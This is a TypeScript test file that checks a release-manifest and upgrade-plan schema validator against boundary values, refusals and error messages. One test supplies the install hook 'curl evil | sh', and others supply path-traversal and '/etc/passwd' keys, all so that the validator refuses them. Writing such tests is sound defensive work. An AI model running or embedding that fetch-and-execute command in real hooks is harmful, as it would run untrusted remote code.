// The release manifest and upgrade plan schemas (kernel/release/manifest.ts) on their own, in
// this process: every constraint refuses the value just past it and accepts the value at it, and
// a refusal names the file and the field. install.test.ts and manifest-keys.test.ts read
// manifests through the installer; this file is the fast one, which `npm run mutate -- manifest`
// runs once per mutant.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HTTP_METHODS, parseManifest, parsePlan, validateOrThrow } from '../../kernel/release/manifest.ts';
import { Type } from '@sinclair/typebox';

const sha = (c: string) => c.repeat(64);

/** A valid manifest with every optional part: a stateful service, a pooled one, an HTTP front door. */
function manifest(): Record<string, any> {
  return {
    schema: 1,
    app: 'shop',
    version: '1.2.3-rc.1+build.7',
    protocol: 1,
    node: '>=20.6',
    drainTimeoutMs: 5000,
    probationMs: 300,
    checkpointIntervalMs: 1000,
    checkpointEveryChanges: 1000,
    maxRestarts: 3,
    restartWindowMs: 5000,
    hooks: { preStart: ['a'], postStart: [], preStop: [], postStop: [], preUpgrade: [], postUpgrade: ['b'] },
    runtimeConfig: { anything: [1, { goes: true }] },
    http: {
      listeners: [{ port: 8080, host: '127.0.0.1', routes: [{ method: 'GET', path: '/files/*', service: 'cart', handler: 'get' }] }],
      maxBodyBytes: 65536,
      maxReplyBytes: 1048576,
      requestTimeoutMs: 30000,
    },
    services: {
      cart: {
        entry: 'services/cart/cart.mjs',
        sha256: sha('a'),
        vsn: '2',
        calls: ['get'],
        casts: ['add'],
        uses: ['prices'],
        migrations: [{ from: '1', to: '2', hasDown: true }],
        hasTerminate: false,
        hasHealth: true,
        stateCheck: 'transitions',
        staticDir: 'services/cart/public',
        durability: 'reply',
      },
      prices: {
        entry: 'services/prices/prices.mjs',
        sha256: sha('b'),
        vsn: '0',
        calls: [],
        casts: [],
        uses: [],
        migrations: [],
        hasTerminate: true,
        hasHealth: false,
        stateCheck: 'every-change',
        staticDir: null,
        pool: { size: 4 },
      },
    },
    files: {
      'services/cart/cart.mjs': { sha256: sha('a'), size: 10 },
      'services/cart/public/index.html': { sha256: sha('c'), size: 0 },
      'services/prices/prices.mjs': { sha256: sha('b'), size: 20 },
      'plan.json': { sha256: sha('d'), size: 30 },
    },
  };
}

const parse = (value: unknown) => parseManifest(JSON.stringify(value), '/r/manifest.json');

/** Applies `edit` to a fresh valid manifest: parseManifest must refuse it, naming the file and `field`. */
function assertRefused(name: string, edit: (m: Record<string, any>) => void, field: string | RegExp): void {
  const m = manifest();
  edit(m);
  assert.throws(
    () => parse(m),
    (error: Error & { code: string }) => {
      assert.equal(error.code, 'E_MANIFEST_INVALID', `${name}: ${error.message}`);
      assert.match(error.message, /^\/r\/manifest\.json is not a valid release manifest: /, name);
      if (typeof field === 'string') assert.ok(error.message.includes(field), `${name}: ${error.message} does not name ${field}`);
      else assert.match(error.message, field, name);
      return true;
    },
    name,
  );
}

function assertAccepted(name: string, edit: (m: Record<string, any>) => void): void {
  const m = manifest();
  edit(m);
  assert.doesNotThrow(() => parse(m), name);
}

test('the full manifest is read as written, every object without a prototype', () => {
  const read = parse(manifest()) as unknown as Record<string, any>;
  assert.deepEqual(JSON.parse(JSON.stringify(read)), manifest());
  assert.equal(Object.getPrototypeOf(read.files), null);
  assert.equal(Object.getPrototypeOf(read.services.cart), null);
});

test('top-level fields: each constraint refuses the value past it and accepts the value at it', () => {
  const refused: Array<[string, (m: Record<string, any>) => void, string]> = [
    ['another schema version', (m) => (m.schema = 2), '/schema'],
    ['an app name starting with a digit', (m) => (m.app = '1shop'), '/app'],
    ['an app name with a slash', (m) => (m.app = 'a/b'), '/app'],
    ['an app name of 65 characters', (m) => (m.app = `a${'b'.repeat(64)}`), '/app'],
    ['an empty app name', (m) => (m.app = ''), '/app'],
    ['a version that is not semver', (m) => (m.version = '1.2'), '/version'],
    ['a version with a path in it', (m) => (m.version = '1.2.3/../../x'), '/version'],
    ['a version with text before it', (m) => (m.version = 'v1.2.3'), '/version'],
    ['protocol 0', (m) => (m.protocol = 0), '/protocol'],
    ['a fractional protocol', (m) => (m.protocol = 1.5), '/protocol'],
    ['an empty node range', (m) => (m.node = ''), '/node'],
    ['drainTimeoutMs 0', (m) => (m.drainTimeoutMs = 0), '/drainTimeoutMs'],
    ['probationMs below 0', (m) => (m.probationMs = -1), '/probationMs'],
    ['checkpointIntervalMs below 0', (m) => (m.checkpointIntervalMs = -1), '/checkpointIntervalMs'],
    ['checkpointEveryChanges below 0', (m) => (m.checkpointEveryChanges = -1), '/checkpointEveryChanges'],
    ['maxRestarts below 0', (m) => (m.maxRestarts = -1), '/maxRestarts'],
    ['restartWindowMs 0', (m) => (m.restartWindowMs = 0), '/restartWindowMs'],
    ['a hook that is not a list of strings', (m) => (m.hooks.preStop = [1]), '/hooks/preStop'],
    ['a hook missing', (m) => delete m.hooks.postStop, '/hooks'],
    ['an unknown hook', (m) => (m.hooks.postInstall = ['curl evil | sh']), '/hooks'],
    ['runtimeConfig that is not an object', (m) => (m.runtimeConfig = [1]), '/runtimeConfig'],
    ['an extra top-level field', (m) => (m.postInstall = 'x'), 'postInstall'],
  ];
  for (const [name, edit, field] of refused) assertRefused(name, edit, field);
  const accepted: Array<[string, (m: Record<string, any>) => void]> = [
    ['a one-letter app name', (m) => (m.app = 'a')],
    ['an app name of 64 characters', (m) => (m.app = `a${'-_9'.repeat(21)}`)],
    ['a plain version', (m) => (m.version = '0.0.0')],
    ['probation, checkpoints and restarts off', (m) => Object.assign(m, { probationMs: 0, checkpointIntervalMs: 0, checkpointEveryChanges: 0, maxRestarts: 0 })],
    ['the smallest timeouts', (m) => Object.assign(m, { drainTimeoutMs: 1, restartWindowMs: 1 })],
    ['no http section', (m) => delete m.http],
    ['no services', (m) => (m.services = {})],
  ];
  for (const [name, edit] of accepted) assertAccepted(name, edit);
});

test('services: each constraint refuses the value past it and accepts the value at it', () => {
  const refused: Array<[string, (s: Record<string, any>) => void, string]> = [
    ['an entry outside the release', (s) => (s.entry = '../cart.mjs'), '/services/cart/entry'],
    ['an upper-case sha256', (s) => (s.sha256 = sha('A')), '/services/cart/sha256'],
    ['a short sha256', (s) => (s.sha256 = 'a'.repeat(63)), '/services/cart/sha256'],
    ['an empty vsn', (s) => (s.vsn = ''), '/services/cart/vsn'],
    ['a call that is not a string', (s) => (s.calls = [1]), '/services/cart/calls/0'],
    ['a cast that is not a string', (s) => (s.casts = [null]), '/services/cart/casts/0'],
    ['a used service that is not a name', (s) => (s.uses = ['../x']), '/services/cart/uses/0'],
    ['a migration with a field missing', (s) => (s.migrations = [{ from: '1', to: '2' }]), '/services/cart/migrations/0'],
    ['a migration with an extra field', (s) => (s.migrations = [{ from: '1', to: '2', hasDown: true, run: 'x' }]), '/services/cart/migrations/0'],
    ['a migration with a mistyped field', (s) => (s.migrations = [{ from: 1, to: '2', hasDown: true }]), '/services/cart/migrations/0/from'],
    ['hasTerminate not a boolean', (s) => (s.hasTerminate = 'no'), '/services/cart/hasTerminate'],
    ['hasHealth not a boolean', (s) => (s.hasHealth = 0), '/services/cart/hasHealth'],
    ['an unknown stateCheck', (s) => (s.stateCheck = 'sometimes'), '/services/cart/stateCheck'],
    ['a staticDir outside the release', (s) => (s.staticDir = '../public'), '/services/cart/staticDir'],
    ['a pool of 0 threads', (s) => (s.pool = { size: 0 }), '/services/cart/pool/size'],
    ['a pool of 65 threads', (s) => (s.pool = { size: 65 }), '/services/cart/pool/size'],
    ['a pool of 1.5 threads', (s) => (s.pool = { size: 1.5 }), '/services/cart/pool/size'],
    ['a pool with an extra field', (s) => (s.pool = { size: 1, min: 1 }), '/services/cart/pool'],
    ['an unknown durability', (s) => (s.durability = 'never'), '/services/cart/durability'],
    ['an extra field', (s) => (s.restart = 'always'), '/services/cart'],
  ];
  for (const [name, edit, field] of refused) assertRefused(name, (m) => edit(m.services.cart), field);
  const accepted: Array<[string, (s: Record<string, any>) => void]> = [
    ['a pool of 1 thread', (s) => (s.pool = { size: 1 })],
    ['a pool of 64 threads', (s) => (s.pool = { size: 64 })],
    ['durability periodic', (s) => (s.durability = 'periodic')],
    ['no durability', (s) => delete s.durability],
    ['stateCheck every-change', (s) => (s.stateCheck = 'every-change')],
    ['no static files', (s) => (s.staticDir = null)],
  ];
  for (const [name, edit] of accepted) assertAccepted(name, (m) => edit(m.services.cart));
  // Service names are keys: a name that is not one is refused, named by the key.
  for (const key of ['1cart', 'a/b', '', `c${'d'.repeat(64)}`, 'con fig']) {
    assertRefused(`a service named ${JSON.stringify(key)}`, (m) => (m.services[key] = m.services.cart), '/services');
  }
  assertAccepted('a service named with 64 characters', (m) => (m.services[`c${'d'.repeat(63)}`] = m.services.cart));
});

test('a service must run a listed file with its hash', () => {
  assertRefused('an entry that is not listed', (m) => (m.services.cart.entry = 'services/cart/other.mjs'), "services.cart.entry 'services/cart/other.mjs' is not a listed file");
  assertRefused('an entry listed with another hash', (m) => (m.services.cart.sha256 = sha('c')), 'services.cart.entry');
  assertRefused('an entry named like an Object.prototype property', (m) => (m.services.cart.entry = 'constructor'), 'services.cart.entry');
  assertAccepted('an entry named like an Object.prototype property that is listed', (m) => {
    m.services.cart.entry = 'constructor';
    m.files.constructor = { sha256: sha('a'), size: 1 };
  });
});

test('files: keys are release paths, each with a lower-case sha256 and a whole size', () => {
  const refused: Array<[string, (f: Record<string, any>) => void, string]> = [
    ['a key climbing out', (f) => (f['../x'] = { sha256: sha('e'), size: 1 }), '/files'],
    ['an absolute key', (f) => (f['/etc/passwd'] = { sha256: sha('e'), size: 1 }), '/files'],
    ['a key of 1025 characters', (f) => (f['x'.repeat(1025)] = { sha256: sha('e'), size: 1 }), '/files'],
    ['a bad sha256', (f) => (f['plan.json'].sha256 = 'z'.repeat(64)), '/files/plan.json/sha256'],
    ['a negative size', (f) => (f['plan.json'].size = -1), '/files/plan.json/size'],
    ['a fractional size', (f) => (f['plan.json'].size = 0.5), '/files/plan.json/size'],
    ['a size missing', (f) => delete f['plan.json'].size, '/files/plan.json'],
    ['an extra field', (f) => (f['plan.json'].mode = 0o4755), '/files/plan.json'],
  ];
  for (const [name, edit, field] of refused) assertRefused(name, (m) => edit(m.files), field);
  assertAccepted('a key of 1024 characters', (m) => (m.files['x'.repeat(1024)] = { sha256: sha('e'), size: 0 }));
  // A key that is another key's folder: 'a' sorts right before 'a/b' only once sorted.
  for (const keys of [['a/b', 'z', 'a'], ['a', 'a/b'], ['m/n/o', 'm/n']]) {
    assertRefused(`files ${keys.join(', ')}`, (m) => {
      for (const key of keys) m.files[key] = { sha256: sha('e'), size: 1 };
    }, /is listed as a file and as the folder of/);
  }
  assertRefused('files b, c, c/d', (m) => {
    for (const key of ['b', 'c', 'c/d']) m.files[key] = { sha256: sha('e'), size: 1 };
  }, "files: 'c' is listed as a file and as the folder of 'c/d'");
  // Names that share a beginning without being folders of each other.
  assertAccepted('files a, ab/c, a.b, a-b/c', (m) => {
    for (const key of ['a', 'ab/c', 'a.b', 'a-b/c']) m.files[key] = { sha256: sha('e'), size: 1 };
  });
});

test('the HTTP front door: each constraint refuses the value past it and accepts the value at it', () => {
  const listener = (m: Record<string, any>) => m.http.listeners[0];
  const route = (m: Record<string, any>) => m.http.listeners[0].routes[0];
  const refused: Array<[string, (m: Record<string, any>) => void, string]> = [
    ['no listeners', (m) => (m.http.listeners = []), '/http/listeners'],
    ['a port below 0', (m) => (listener(m).port = -1), '/http/listeners/0/port'],
    ['a port above 65535', (m) => (listener(m).port = 65536), '/http/listeners/0/port'],
    ['an empty host', (m) => (listener(m).host = ''), '/http/listeners/0/host'],
    ['no routes and no WebSocket routes', (m) => (listener(m).routes = []), '/http/listeners/0/routes'],
    ['a listener with an extra field', (m) => (listener(m).tls = true), '/http/listeners/0'],
    ['an unknown method', (m) => (route(m).method = 'TRACE'), '/http/listeners/0/routes/0/method'],
    ['a lower-case method', (m) => (route(m).method = 'get'), '/http/listeners/0/routes/0/method'],
    ['a path without its slash', (m) => (route(m).path = 'next'), '/http/listeners/0/routes/0/path'],
    ['a path with a query', (m) => (route(m).path = '/next?x=1'), '/http/listeners/0/routes/0/path'],
    ['a path with a fragment', (m) => (route(m).path = '/next#x'), '/http/listeners/0/routes/0/path'],
    ['a path with a space', (m) => (route(m).path = '/ne xt'), '/http/listeners/0/routes/0/path'],
    ['a path of 1025 characters', (m) => (route(m).path = `/${'p'.repeat(1024)}`), '/http/listeners/0/routes/0/path'],
    ['a service that is not a name', (m) => (route(m).service = '../x'), '/http/listeners/0/routes/0/service'],
    ['an empty handler', (m) => (route(m).handler = ''), '/http/listeners/0/routes/0/handler'],
    ['a route with an extra field', (m) => (route(m).auth = 'none'), '/http/listeners/0/routes/0'],
    ['a body limit below 0', (m) => (m.http.maxBodyBytes = -1), '/http/maxBodyBytes'],
    ['a reply limit below 0', (m) => (m.http.maxReplyBytes = -1), '/http/maxReplyBytes'],
    ['a request timeout of 0', (m) => (m.http.requestTimeoutMs = 0), '/http/requestTimeoutMs'],
    ['an extra field', (m) => (m.http.cors = '*'), '/http'],
  ];
  for (const [name, edit, field] of refused) assertRefused(name, edit, field);
  const accepted: Array<[string, (m: Record<string, any>) => void]> = [
    ['port 0 (any free port)', (m) => (listener(m).port = 0)],
    ['port 65535', (m) => (listener(m).port = 65535)],
    ['WebSocket routes only', (m) => Object.assign(listener(m), { routes: [], websockets: [{ path: '/chat', service: 'cart' }] })],
    ['the root path', (m) => (route(m).path = '/')],
    ['a path of 1024 characters', (m) => (route(m).path = `/${'p'.repeat(1023)}`)],
    ['limits of 0 bytes and a timeout of 1 ms', (m) => Object.assign(m.http, { maxBodyBytes: 0, maxReplyBytes: 0, requestTimeoutMs: 1 })],
  ];
  for (const [name, edit] of accepted) assertAccepted(name, edit);
  assert.deepEqual([...HTTP_METHODS], ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']);
  for (const method of HTTP_METHODS) assertAccepted(`method ${method}`, (m) => (route(m).method = method));
});

test('a refusal lists up to five problems, each with its field', () => {
  const m = manifest();
  for (const field of ['drainTimeoutMs', 'probationMs', 'checkpointIntervalMs', 'checkpointEveryChanges', 'maxRestarts', 'restartWindowMs']) m[field] = 'x';
  assert.throws(() => parse(m), (error: Error) => {
    const problems = error.message.replace(/^[^:]+: /, '').replace(/\. Rebuild.*$/, '').split('; ');
    assert.equal(problems.length, 5, error.message);
    for (const [i, field] of ['drainTimeoutMs', 'probationMs', 'checkpointIntervalMs', 'checkpointEveryChanges', 'maxRestarts'].entries()) assert.match(problems[i]!, new RegExp(`^/${field}: `));
    return true;
  });
  // A value that is not an object at all fails at the root, written '/'.
  assert.throws(() => parseManifest('[]', 'm.json'), /m\.json is not a valid release manifest: \/: /);
  assert.throws(() => parseManifest('{"schema": 1', 'm.json'), (error: Error & { code: string }) => {
    assert.equal(error.code, 'E_MANIFEST_INVALID');
    assert.match(error.message, /^m\.json is not a valid release manifest: not JSON \(/);
    return true;
  });
  // Other schemas are named as documents.
  assert.throws(() => validateOrThrow(Type.Object({ a: Type.String() }), {}, 'x.json'), /x\.json is not a valid document: /);
});

test('the upgrade plan: read as written, and each constraint refuses', () => {
  const plan = () => ({
    schema: 1,
    from: '1.0.0',
    to: '1.1.0',
    services: {
      cart: { change: 'vsn', fromVsn: '1', toVsn: '2', up: ['1 -> 2'], down: ['2 -> 1'] },
      added: { change: 'added', fromVsn: null, toVsn: '0', up: [], down: null },
    },
    warnings: ['careful'],
  });
  assert.deepEqual(JSON.parse(JSON.stringify(parsePlan(JSON.stringify(plan()), 'plan.json'))), plan());
  assert.throws(() => parsePlan('{"schema": 1', 'plan.json'), { code: 'E_MANIFEST_INVALID', message: /^plan\.json is not a valid upgrade plan: not JSON/ });
  assert.doesNotThrow(() => parsePlan(JSON.stringify({ ...plan(), from: null }), 'plan.json'), 'a first release');
  for (const change of ['added', 'removed', 'code', 'vsn', 'config', 'unchanged']) {
    const p = plan() as Record<string, any>;
    p.services.cart.change = change;
    assert.doesNotThrow(() => parsePlan(JSON.stringify(p), 'plan.json'), change);
  }
  const refused: Array<[string, (p: Record<string, any>) => void, string]> = [
    ['another schema version', (p) => (p.schema = 2), '/schema'],
    ['a from that is not a version', (p) => (p.from = 'latest'), '/from'],
    ['a to that is not a version', (p) => (p.to = '../1.1.0'), '/to'],
    ['an unknown change', (p) => (p.services.cart.change = 'renamed'), '/services/cart/change'],
    ['a fromVsn that is a number', (p) => (p.services.cart.fromVsn = 1), '/services/cart/fromVsn'],
    ['a toVsn missing', (p) => delete p.services.cart.toVsn, '/services/cart'],
    ['an up step that is not a string', (p) => (p.services.cart.up = [1]), '/services/cart/up/0'],
    ['a down that is a string', (p) => (p.services.cart.down = '2 -> 1'), '/services/cart/down'],
    ['a service with an extra field', (p) => (p.services.cart.run = 'x'), '/services/cart'],
    ['a service key that is not a name', (p) => (p.services['../x'] = p.services.cart), '/services'],
    ['a warning that is not a string', (p) => (p.warnings = [1]), '/warnings/0'],
    ['an extra field', (p) => (p.hooks = []), '/hooks'],
  ];
  for (const [name, edit, field] of refused) {
    const p = plan() as Record<string, any>;
    edit(p);
    assert.throws(
      () => parsePlan(JSON.stringify(p), '/r/plan.json'),
      (error: Error & { code: string }) => {
        assert.equal(error.code, 'E_MANIFEST_INVALID', name);
        assert.match(error.message, /^\/r\/plan\.json is not a valid upgrade plan: /, name);
        assert.ok(error.message.includes(field), `${name}: ${error.message} does not name ${field}`);
        return true;
      },
      name,
    );
  }
});
